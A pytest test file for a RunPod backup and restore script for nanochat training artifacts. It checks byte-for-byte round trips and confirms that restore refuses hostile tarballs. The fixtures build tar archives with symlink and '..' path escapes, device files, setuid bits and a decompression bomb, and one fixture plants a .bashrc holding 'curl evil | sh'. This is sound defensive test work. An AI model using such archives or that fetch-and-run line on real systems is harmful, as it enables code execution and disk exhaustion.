"""runpod_storage.sh as users run it: a fake /workspace in a temp dir, real tar, gzip and sha256sum.

The artifacts follow the real layout (one real checkpoint from make_tiny_checkpoint, the rest plain
files under <phase dir>/<tag>/step_NNNNNN/), and every check compares trees byte for byte.
"""

import gzip
import hashlib
import io
import os
import shutil
import stat
import subprocess
import tarfile
import time
from pathlib import Path

import pytest

from tests.conftest import REPO_ROOT, make_tiny_checkpoint

SCRIPT = REPO_ROOT / "runpod_storage.sh"
TWO_HOURS_AGO = time.time() - 7200


def run(ws: Path, *args: str, env: dict | None = None, timeout: int = 60) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if not k.startswith("RUNPOD_")}
    full.update(WORKSPACE=str(ws), NANOCHAT_BASE_DIR=str(ws / "nanochat_artifacts"))
    full.update(env or {})
    # stdin is never a terminal here: a prompt would have to refuse, not wait
    return subprocess.run(["bash", str(SCRIPT), *args], env=full, stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=timeout)


def snapshot(root: Path) -> dict[str, tuple]:
    """Every path under root -> its kind and content (sha256 and mode of files, target of links)."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            out[rel] = ("link", os.readlink(path))
        elif path.is_dir():
            out[rel] = ("dir",)
        else:
            out[rel] = ("file", hashlib.sha256(path.read_bytes()).hexdigest(), stat.S_IMODE(path.stat().st_mode))
    return out


def not_archived(rel: str) -> bool:
    """What a backup leaves out on purpose: unfinished checkpoint saves and partial downloads."""
    return any(part.startswith(".step_") for part in rel.split("/")) or rel.endswith(".part")


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """One fake workspace built once (make_tiny_checkpoint imports torch), copied into each test."""
    ws = tmp_path_factory.mktemp("template") / "workspace"
    art = ws / "nanochat_artifacts"
    make_tiny_checkpoint(art, phase="sft", tag="d1")  # also writes tokenizer/tokenizer.json
    for step in (100, 200):
        d = art / "base_checkpoints" / "d4" / f"step_{step:06d}"
        write(d / "meta.json", f'{{"step": {step}}}'.encode())
        write(d / "model.safetensors", os.urandom(50_000))
    write(art / "base_checkpoints" / "d4" / "metrics.jsonl", b'{"step": 1}\n')
    write(art / "base_checkpoints" / "d4" / ".step_000300.tmp" / "model.safetensors", b"a save in progress")
    old = write(art / "base_checkpoints" / "d4" / ".step_000150.old" / "model.safetensors", b"a dead save")
    os.utime(old.parent, (TWO_HOURS_AGO, TWO_HOURS_AGO))
    write(art / "mid_checkpoints" / "d4" / "step_000050" / "meta.json", b"{}")
    write(art / "base_data" / "shard_00000.parquet", os.urandom(20_000))
    part = write(art / "base_data" / "shard_00001.parquet.part", os.urandom(5_000))
    os.utime(part, (TWO_HOURS_AGO, TWO_HOURS_AGO))
    write(art / "base_data_ko" / "shard_00000.parquet", os.urandom(3_000))
    write(art / "chat_data" / "smoltalk.jsonl", b'{"messages": []}\n')
    write(art / "report" / "report.md", "# nanochat 보고서\n".encode())
    write(art / "logs" / "run1" / "console.log", b"step 00001\n")
    (art / "logs" / "run1" / "rank0.log").symlink_to("console.log")
    script = write(art / "logs" / "run1" / "run.sh", b"#!/bin/sh\n")
    script.chmod(0o755)
    write(ws / "nanochat_final_report.md", b"# final report\n")
    return ws


@pytest.fixture
def ws(template, tmp_path):
    dest = tmp_path / "workspace"
    shutil.copytree(template, dest, symlinks=True)
    for rel in ("base_checkpoints/d4/.step_000150.old", "base_data/shard_00001.parquet.part"):
        os.utime(dest / "nanochat_artifacts" / rel, (TWO_HOURS_AGO, TWO_HOURS_AGO))
    return dest


def backups(ws: Path) -> list[str]:
    d = ws / "backups"
    return sorted(p.name for p in d.iterdir()) if d.is_dir() else []


def test_status_lists_phases_with_latest_steps(ws):
    proc = run(ws, "status")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "base_checkpoints/d4: latest step 200 (2 saved" in out
    assert "mid_checkpoints/d4: latest step 50 (1 saved" in out
    assert "chatsft_checkpoints/d1: latest step 1 (1 saved" in out
    assert "chatrl_checkpoints: none" in out
    assert "tokenizer  present" in out and "report     present" in out
    assert "base_data 1 shards" in out
    assert "none (make one" in out
    run(ws, "backup", "first")
    out = run(ws, "status").stdout
    assert "first.tar.gz" in out and "sha256 beside" in out


def test_backup_cleanup_restore_round_trip_byte_for_byte(ws):
    art = ws / "nanochat_artifacts"
    run1 = art / "logs" / "run1"
    (run1 / "base").mkdir()
    (run1 / "base" / "base_data").symlink_to(art / "base_data")  # dev/launch.sh --test's absolute links
    os.link(run1 / "console.log", run1 / "console_hardlink.log")  # archived as a copy, not a link
    before = {k: v for k, v in snapshot(art).items() if not not_archived(k)}
    report = (ws / "nanochat_final_report.md").read_bytes()

    proc = run(ws, "backup", "b1")
    assert proc.returncode == 0, proc.stderr
    assert backups(ws) == ["b1.tar.gz", "b1.tar.gz.sha256"]  # no temp file left beside them
    check = subprocess.run(["sha256sum", "-c", "b1.tar.gz.sha256"], cwd=ws / "backups", capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    with tarfile.open(ws / "backups" / "b1.tar.gz") as tar:
        names = tar.getnames()
        assert not [m.name for m in tar if m.islnk()]
    assert "artifacts/base_checkpoints/d4/step_000200/model.safetensors" in names
    assert "nanochat_final_report.md" in names and "BACKUP_INFO" in names
    assert not [n for n in names if not_archived(n)]

    proc = run(ws, "cleanup", "-y")
    assert proc.returncode == 0, proc.stderr
    assert not (art / "base_checkpoints" / "d4" / "step_000100").exists()
    (ws / "nanochat_final_report.md").write_bytes(b"overwritten")
    write(art / "tokenizer" / "tokenizer.json", b"broken")

    proc = run(ws, "restore", "b1", "-y")
    assert proc.returncode == 0, proc.stderr
    assert snapshot(art) == before
    assert (ws / "nanochat_final_report.md").read_bytes() == report
    safety = [n for n in backups(ws) if n.startswith("pre_restore_") and n.endswith(".tar.gz")]
    assert len(safety) == 1  # what the restore replaced, restorable in its turn
    with tarfile.open(ws / "backups" / safety[0]) as tar:
        assert tar.extractfile("artifacts/tokenizer/tokenizer.json").read() == b"broken"
    assert not [p for p in ws.iterdir() if p.name.startswith(".")]  # no temp or old dirs left
    assert "latest backup: b1.tar.gz" in run(ws, "download").stdout  # not the safety copy


def test_cleanup_lists_without_y_and_with_y_keeps_the_latest(ws):
    art = ws / "nanochat_artifacts"
    for i, name in enumerate(("old", "older_still", "newest")):
        assert run(ws, "backup", name).returncode == 0
        mtime = time.time() - 3600 * (3 - i) if name != "older_still" else time.time() - 4 * 3600
        os.utime(ws / "backups" / f"{name}.tar.gz", (mtime, mtime))
    before, saved = snapshot(art), backups(ws)

    listed = run(ws, "cleanup", "--keep-backups", "1")
    assert listed.returncode == 0, listed.stderr
    for needle in ("step_000100", ".step_000150.old", "shard_00001.parquet.part", "old.tar.gz", "older_still.tar.gz"):
        assert needle in listed.stdout
    assert "step_000200" not in listed.stdout and "newest.tar.gz" not in listed.stdout
    assert ".step_000300.tmp" not in listed.stdout  # above the latest step and fresh: a save may be running
    assert "nothing was deleted" in listed.stdout and "-y" in listed.stdout
    assert snapshot(art) == before and backups(ws) == saved

    proc = run(ws, "cleanup", "--keep-backups", "1", "-y")
    assert proc.returncode == 0, proc.stderr
    d4 = art / "base_checkpoints" / "d4"
    assert sorted(p.name for p in d4.iterdir()) == [".step_000300.tmp", "metrics.jsonl", "step_000200"]
    assert (art / "mid_checkpoints" / "d4" / "step_000050").is_dir()
    assert (art / "chatsft_checkpoints" / "d1" / "step_000001" / "model.safetensors").is_file()
    assert not (art / "base_data" / "shard_00001.parquet.part").exists()
    assert (art / "base_data" / "shard_00000.parquet").is_file()
    assert backups(ws) == ["newest.tar.gz", "newest.tar.gz.sha256"]

    again = run(ws, "cleanup", "--keep", "0", "-y")
    assert again.returncode != 0 and "--keep must be a number >= 1" in again.stderr
    assert (d4 / "step_000200").is_dir()


@pytest.mark.parametrize("damage", ["truncated", "sha_mismatch", "truncated_with_sha"])
def test_damaged_archive_is_refused_and_nothing_changes(ws, damage):
    assert run(ws, "backup", "good").returncode == 0
    good = ws / "backups" / "good.tar.gz"
    data = good.read_bytes()
    if damage == "sha_mismatch":
        target, bad_hash = "good", "0" * 64
        (ws / "backups" / "good.tar.gz.sha256").write_text(f"{bad_hash}  good.tar.gz\n")
    else:
        target = str(ws / "elsewhere" / "cut.tar.gz")
        write(Path(target), data[: len(data) // 2])
        if damage == "truncated_with_sha":
            shutil.copy(ws / "backups" / "good.tar.gz.sha256", target + ".sha256")
    write(ws / "nanochat_artifacts" / "new_since_backup.txt", b"keep me")
    art_before, saved, listing = snapshot(ws / "nanochat_artifacts"), backups(ws), sorted(os.listdir(ws))

    proc = run(ws, "restore", target, "-y")
    assert proc.returncode != 0
    expected = "corrupt or truncated" if damage == "truncated" else "does not match its checksum"
    assert expected in proc.stderr and "nothing was changed" in proc.stderr
    assert len(proc.stderr.strip().splitlines()) <= 2  # one error line (plus the no-.sha256 warning)
    assert snapshot(ws / "nanochat_artifacts") == art_before
    assert backups(ws) == saved  # no safety backup either: it refused before doing anything
    assert sorted(os.listdir(ws)) == listing


def test_restore_without_y_on_a_non_terminal_refuses_at_once(ws):
    assert run(ws, "backup", "b1").returncode == 0
    before, saved = snapshot(ws / "nanochat_artifacts"), backups(ws)
    proc = run(ws, "restore", "b1", timeout=30)
    assert proc.returncode != 0
    assert "not a terminal" in proc.stderr and "-y" in proc.stderr
    assert snapshot(ws / "nanochat_artifacts") == before and backups(ws) == saved


def test_no_data_backup_leaves_out_data_and_restore_keeps_the_data_in_place(ws):
    art = ws / "nanochat_artifacts"
    proc = run(ws, "backup", "small", "--no-data")
    assert proc.returncode == 0, proc.stderr
    with tarfile.open(ws / "backups" / "small.tar.gz") as tar:
        tops = {n.split("/")[1] for n in tar.getnames() if n.count("/") >= 1}
    assert "base_checkpoints" in tops and "tokenizer" in tops
    assert not tops & {"base_data", "base_data_ko", "chat_data"}
    data_before = {k: v for k, v in snapshot(art).items() if k.split("/")[0] in ("base_data", "base_data_ko", "chat_data")}
    shutil.rmtree(art / "base_checkpoints")

    proc = run(ws, "restore", "small", "-y")
    assert proc.returncode == 0, proc.stderr
    assert (art / "base_checkpoints" / "d4" / "step_000200" / "meta.json").is_file()
    data_after = {k: v for k, v in snapshot(art).items() if k.split("/")[0] in ("base_data", "base_data_ko", "chat_data")}
    assert data_after == data_before


def test_a_failed_backup_leaves_no_partial_archive(ws, tmp_path):
    stub = tmp_path / "stub_bin"
    stub.mkdir()
    gzip = stub / "gzip"
    gzip.write_text("#!/bin/sh\nhead -c 1000 >/dev/null\necho 'gzip: No space left on device' >&2\nexit 1\n")
    gzip.chmod(0o755)
    proc = run(ws, "backup", "doomed", env={"PATH": f"{stub}{os.pathsep}{os.environ['PATH']}"})
    assert proc.returncode != 0
    assert "no backup was kept" in proc.stderr
    assert backups(ws) == []


def test_download_prints_commands_for_this_pod(ws):
    assert run(ws, "backup", "b1").returncode == 0
    proc = run(ws, "download", env={"RUNPOD_PUBLIC_IP": "203.0.113.7", "RUNPOD_TCP_PORT_22": "40022"})
    assert proc.returncode == 0, proc.stderr
    assert f"scp -P 40022 'root@203.0.113.7:{ws}/backups/b1.tar.gz'" in proc.stdout
    assert "rsync -avP -e 'ssh -p 40022'" in proc.stdout and "sha256sum -c b1.tar.gz.sha256" in proc.stdout
    proc = run(ws, "download")
    assert "<POD_IP>" in proc.stdout and "<SSH_PORT>" in proc.stdout and "RunPod console" in proc.stdout


def test_upload_uses_the_cloud_cli_or_says_how_to_install_it(ws, tmp_path):
    assert run(ws, "backup", "b1").returncode == 0
    stub = tmp_path / "stub_bin"
    stub.mkdir()
    calls = tmp_path / "calls.txt"
    for tool in ("aws", "gsutil"):
        (stub / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> {calls}\n')
        (stub / tool).chmod(0o755)
    path = f"{stub}{os.pathsep}{os.environ['PATH']}"
    proc = run(ws, "upload", "s3://bucket/runs/", env={"PATH": path})
    assert proc.returncode == 0, proc.stderr
    proc = run(ws, "upload", "gs://bucket/x.tar.gz", "b1", env={"PATH": path})
    assert proc.returncode == 0, proc.stderr
    archive = ws / "backups" / "b1.tar.gz"
    assert calls.read_text().splitlines() == [
        f"aws s3 cp {archive} s3://bucket/runs/b1.tar.gz", f"aws s3 cp {archive}.sha256 s3://bucket/runs/b1.tar.gz.sha256",
        f"gsutil cp {archive} gs://bucket/x.tar.gz", f"gsutil cp {archive}.sha256 gs://bucket/x.tar.gz.sha256"]

    bad = run(ws, "upload", "ftp://host/x")
    assert bad.returncode != 0 and "s3://bucket/prefix or gs://bucket/prefix" in bad.stderr
    no_aws_path = os.pathsep.join(p for p in os.environ["PATH"].split(os.pathsep) if not shutil.which("aws", path=p))
    missing = run(ws, "upload", "s3://bucket/", env={"PATH": no_aws_path})
    assert missing.returncode != 0 and "pip install awscli" in missing.stderr


@pytest.mark.parametrize("args", [[], ["frobnicate"]])
def test_no_or_unknown_command_prints_usage_and_exits_2(ws, args):
    proc = run(ws, *args)
    assert proc.returncode == 2
    assert "usage: bash runpod_storage.sh COMMAND" in proc.stderr


# ----------------------------------------------------------------------------- hostile archives


def entry(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", mode: int = 0o644, link: str = "",
          dev: tuple[int, int] = (0, 0)) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.linkname, info.mtime = kind, mode, link, int(time.time())
    info.devmajor, info.devminor = dev
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data


def hostile_archive(ws: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """elsewhere/evil.tar.gz holding a plausible tree plus `members`, with a matching .sha256 beside it."""
    path = ws / "elsewhere" / "evil.tar.gz"
    path.parent.mkdir(exist_ok=True)
    plausible = [entry("artifacts", tarfile.DIRTYPE, mode=0o755), entry("artifacts/tokenizer", tarfile.DIRTYPE, mode=0o755),
                 entry("artifacts/tokenizer/tokenizer.json", data=b"{}")]
    with tarfile.open(path, "w:gz") as tar:
        for info, data in ([] if members[0][0].name == "artifacts" else plausible) + members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    path.with_name(path.name + ".sha256").write_text(f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n")
    return path


def refused_without_change(ws: Path, tmp_path: Path, archive: Path, needle: str, env: dict | None = None) -> str:
    """Restore `archive`: it must fail with one error line holding `needle`, every byte left as it was."""
    tmpdir, outside = tmp_path / "tmpdir", tmp_path / "outside"
    tmpdir.mkdir(exist_ok=True)
    before, outside_before = snapshot(ws), snapshot(outside)
    proc = run(ws, "restore", str(archive), "-y", env={"TMPDIR": str(tmpdir), **(env or {})})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    assert needle in lines[0] and "nothing was changed" in lines[0], lines[0]
    assert snapshot(ws) == before  # the archive, backups (no safety copy) and artifacts alike
    assert snapshot(outside) == outside_before
    assert os.listdir(tmpdir) == []  # no listing or temp dir left behind
    return lines[0]


@pytest.fixture
def outside(tmp_path):
    d = tmp_path / "outside"
    write(d / "precious.txt", b"not yours to touch")
    return d


HOSTILE = {  # id -> (members, what the error names)
    "top_level_symlink": (lambda out: [entry("artifacts", tarfile.SYMTYPE, link=str(out)),
                                       entry("nanochat_final_report.md", data=b"# hi\n")],
                          "symlink 'artifacts'"),
    "symlink_out_absolute": (lambda out: [entry("artifacts/logs", tarfile.SYMTYPE, link=str(out))],
                             "leaves the artifacts"),
    "symlink_out_relative": (lambda out: [entry("artifacts/tokenizer/up", tarfile.SYMTYPE, link="../../../outside")],
                             "leaves the artifacts"),
    "file_under_symlink": (lambda out: [entry("artifacts/t", tarfile.SYMTYPE, link="tokenizer"),
                                        entry("artifacts/t/x.json", data=b"{}")], "inside the symlink"),
    "hardlink": (lambda out: [entry("artifacts/h", tarfile.LNKTYPE, link="artifacts/tokenizer/tokenizer.json")],
                 "a hard link"),
    "char_device": (lambda out: [entry("artifacts/null", tarfile.CHRTYPE, mode=0o666, dev=(1, 3))],
                    "a character device"),
    "block_device": (lambda out: [entry("artifacts/sda", tarfile.BLKTYPE, mode=0o660, dev=(8, 0))],
                     "a block device"),
    "fifo": (lambda out: [entry("artifacts/pipe", tarfile.FIFOTYPE)], "a FIFO"),
    "setuid_file": (lambda out: [entry("artifacts/run.sh", data=b"#!/bin/sh\n", mode=0o4755)], "setuid"),
    "setgid_dir": (lambda out: [entry("artifacts/shared", tarfile.DIRTYPE, mode=0o2775)], "setuid, setgid"),
    "dot_component": (lambda out: [entry("artifacts/./x", data=b"x")], "unsafe path"),
    "dotdot_component": (lambda out: [entry("artifacts/../x", data=b"x")], "unsafe path"),
    "absolute_name": (lambda out: [entry(str(out / "x"), data=b"x")], "unsafe path"),
    "twice": (lambda out: [entry("artifacts/tokenizer/tokenizer.json", data=b"[]")], "twice"),
    "stray_top_level_file": (lambda out: [entry(".bashrc", data=b"curl evil | sh\n")], "not a runpod_storage.sh backup"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_archive_is_refused_and_nothing_changes(ws, tmp_path, outside, case):
    members, needle = HOSTILE[case]
    refused_without_change(ws, tmp_path, hostile_archive(ws, members(outside)), needle)


def test_decompression_bomb_is_refused_by_ratio(ws, tmp_path):
    """A ~1 MB archive declaring 1 GiB of zeros: gzip members concatenated (RFC 1952 2.2), built in ms."""
    size = (1 << 30) + (1 << 20)
    folder, zeros = entry("artifacts", tarfile.DIRTYPE, mode=0o755)[0], entry("artifacts/zeros.bin")[0]
    zeros.size = size
    path = ws / "elsewhere" / "bomb.tar.gz"
    path.parent.mkdir()
    one_mib = gzip.compress(bytes(1 << 20), compresslevel=9, mtime=0)
    with open(path, "wb") as f:
        f.write(gzip.compress(folder.tobuf() + zeros.tobuf(), mtime=0))
        for _ in range(size >> 20):
            f.write(one_mib)
        f.write(gzip.compress(bytes(1024), mtime=0))  # the two zero blocks that end a tar archive
    assert path.stat().st_size < 2 << 20
    path.with_name("bomb.tar.gz.sha256").write_text(f"{hashlib.sha256(path.read_bytes()).hexdigest()}  bomb.tar.gz\n")
    line = refused_without_change(ws, tmp_path, path, "decompression bomb")
    assert "GiB from 1.0MiB" in line


def test_archive_larger_than_the_free_space_is_refused(ws, tmp_path):
    assert run(ws, "backup", "b1").returncode == 0
    stub = tmp_path / "stub_bin"
    stub.mkdir()
    df = stub / "df"  # the volume as a nearly full one would report it: 1 MiB available
    df.write_text("#!/bin/sh\necho 'Filesystem 1024-blocks Used Available Capacity Mounted on'\n"
                  "echo 'fake 1048576 1047552 1024 99% /'\n")
    df.chmod(0o755)
    path = f"{stub}{os.pathsep}{os.environ['PATH']}"
    line = refused_without_change(ws, tmp_path, ws / "backups" / "b1.tar.gz", "free space", env={"PATH": path})
    assert "has 1.0MB" in line


def test_artifacts_path_that_is_a_symlink_is_never_written_through(ws, tmp_path, outside):
    assert run(ws, "backup", "b1").returncode == 0
    art = ws / "nanochat_artifacts"
    shutil.move(art, outside / "real_artifacts")
    art.symlink_to(outside / "real_artifacts")
    refused_without_change(ws, tmp_path, ws / "backups" / "b1.tar.gz", "is a symlink")
    assert art.is_symlink()
